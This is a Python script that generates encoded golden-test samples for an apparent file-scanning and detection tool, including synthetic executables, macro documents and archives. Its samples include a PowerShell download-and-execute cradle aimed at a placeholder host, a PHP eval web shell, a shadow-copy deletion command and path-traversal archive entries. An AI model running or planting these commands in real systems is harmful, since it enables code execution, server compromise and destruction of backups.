#!/usr/bin/env python3
"""Writes the samples of the golden tests: inert files, each compressed and encoded as text (base64 of zlib).

    PYTHONPATH=. python tests/wasm_modules/samples.py

Encoded, so that no scanner takes the EICAR test file or a synthetic executable for what it looks like. After it,
``UPDATE_GOLDEN=1 cargo test --test golden`` in ``wasm/`` writes the expected outputs; read them before you
commit them.
"""

from __future__ import annotations

import base64
import bz2
import lzma
import textwrap
import zlib

import containers
import executables
import golden
import office
import scripts_made
import secrets_made
import shellcode
import signed

from tests import documents

X86_64, ARM64 = 0x01000007, 0x0100000C

EICAR = base64.b64decode("WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo=")

POWERSHELL = (
    b"$c = New-Object Net.WebClient\r\n$x = $c.DownloadString('http://example.invalid/a')\r\nInvoke-Expression $x\r\n"
)
MAIL = (
    b"Received: from a.invalid\r\nFrom: a@example.invalid\r\nTo: b@example.invalid\r\n"
    b"Subject: Invoice\r\nMIME-Version: 1.0\r\n\r\nHello\r\n"
)
LINK = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 56


def samples() -> dict[str, bytes]:
    console = executables.console_program()
    traversal = {"../../evil.dll": console, "invoice.pdf.exe": console, "read.me": b"plain text\n"}
    return {
        "pe32-console.exe": console,
        "pe64-packed.exe": executables.packed_program(),
        "pe32-dotnet.dll": executables.dotnet_library(),
        "pe32-cut.exe": console[:0x150],
        "pe32-signed.exe": signed.sign(console),
        "pe64-forged.exe": signed.sign(executables.built_program(), b"hidden text").replace(
            b"Inert here", b"Other here"
        ),
        "pe32-dotnet.exe": executables.dotnet_program(),
        "elf64-little": executables.elf(wide=True, big=False, machine=62),
        "elf32-big": executables.elf(wide=False, big=True, machine=8),
        "elf32-little.so": executables.elf(wide=False, big=False, machine=40, kind=3),
        "elf64-big": executables.elf(wide=True, big=True, machine=22),
        "elf64-pie": executables.pie(),
        "macho64": executables.macho(),
        "macho-fat": executables.fat((X86_64, executables.macho()), (ARM64, executables.macho(ARM64))),
        "archive.zip": documents.archive(traversal),
        "encrypted.zip": documents.archive({"secret.exe": console}, encrypted=True),
        "package.docm": documents.word_package(),
        "flooded.docx": documents.flooded_package(),
        "old.doc": documents.macro_document(),
        "installer.msi": documents.compound({"Property": b"x"}, bytes.fromhex("84100c0000000000c000000000000046")),
        "script.pdf": documents.pdf(),
        "equation.rtf": documents.rtf(),
        "macros.doc": office.word_document(),
        "stomped.docm": office.stomped_document(),
        "packaged.doc": office.packaged_document(),
        "macros.xls": office.macro_workbook(),
        "macros.xlsm": office.macro_package(),
        "message.msg": office.outlook_message(),
        "archive.eml": office.mail_with_archive(),
        "packaged.rtf": office.rtf_package(),
        "section.one": office.notebook(),
        "winmail.dat": office.winmail(),
        "flat.xml": office.flat_document(),
        "forms.pdf": documents.form_pdf(),
        "members.tar.gz": documents.gzipped(documents.tar({"bin/tool": console, "notes": b"text\n"}), "members.tar"),
        "members.tar": documents.tar({"../up": b"x", "notes": b"text\n"}),
        "single.gz": documents.gzipped(b"hello, hello, hello\n", "hello.txt"),
        "eicar": EICAR,
        "download.ps1": POWERSHELL,
        "message.eml": MAIL,
        "shortcut.lnk": LINK,
        "command.lnk": containers.MALICIOUS_SHORTCUT,
        "nested.zip": documents.archive(
            {"inner.tar.gz": documents.gzipped(documents.tar({"deep/old.doc": documents.macro_document()}))}
        ),
        "packed.bz2": bz2.compress(documents.tar({"a.txt": b"text\n" * 9, "tool.exe": console})),
        "packed.tar.xz": lzma.compress(documents.tar({"a.txt": b"text\n" * 9})),
        "packed.zst": containers.zstd_frame(documents.tar({"a.txt": b"text\n"})),
        "archive.7z": containers.seven_zip(containers.FILES, packed_header=True),
        "stored.rar": containers.rar4(containers.FILES),
        "stored5.rar": containers.rar5({"a.txt": b"text\n"}),
        "members.cpio": containers.cpio(containers.FILES),
        "package.rpm": containers.rpm(containers.FILES),
        "cabinet.cab": containers.cabinet(containers.FILES),
        "packed.cab": containers.lzx_cabinet(containers.FILES, translated=True),
        "image.iso": containers.iso(
            {"Invoice.lnk": containers.shortcut(), "helper.dll": console}, hidden=("helper.dll",)
        ),
        "application.asar": containers.asar({"main.js": b"require('x')\n", "package.json": b"{}"}),
        "tables.msi": containers.installer(),
        "application.apk": containers.apk(),
        "classes.dex": containers.dex(),
        "Main.class": containers.java_class(),
        "library.jar": containers.jar(),
        "unpacker.pyc": containers.bytecode(),
        "pyinstaller.exe": containers.pyinstaller(console),
        "overlay.exe": console + documents.archive({"payload.txt": b"text\n"}),
        "picture.jpg": console,
        "one-byte": b"\x90",
        "zeros": b"\0" * 1000,
        "noise": executables.noise(8192),
        "text-utf16": "\ufeffwide text, nothing else".encode("utf-16le"),
    }


def rules_samples() -> dict[str, bytes]:
    """For the rules that come with pattern-matcher."""
    return {
        "webshell.php": b"<?php @eval($_POST['c']); ?>",
        "no-match.txt": b"nothing is to be found here",
        "shadow-copies.bat": b"vssadmin.exe Delete Shadows /All /Quiet\r\n" * 40,
        "packed.exe": executables.packed_program(),
    }


def main() -> None:
    for module, made in (
        ("crypto", secrets_made.samples()),
        ("file-processor", samples()),
        ("pattern-matcher", rules_samples()),
        ("sandbox", scripts_made.samples() | shellcode.samples()),
    ):
        folder = golden.folder(module)
        folder.mkdir(exist_ok=True)
        for name, content in made.items():
            encoded = base64.b64encode(zlib.compress(content, 9)).decode()
            (folder / f"{name}.b64").write_text(textwrap.fill(encoded, 100) + "\n")


if __name__ == "__main__":
    main()
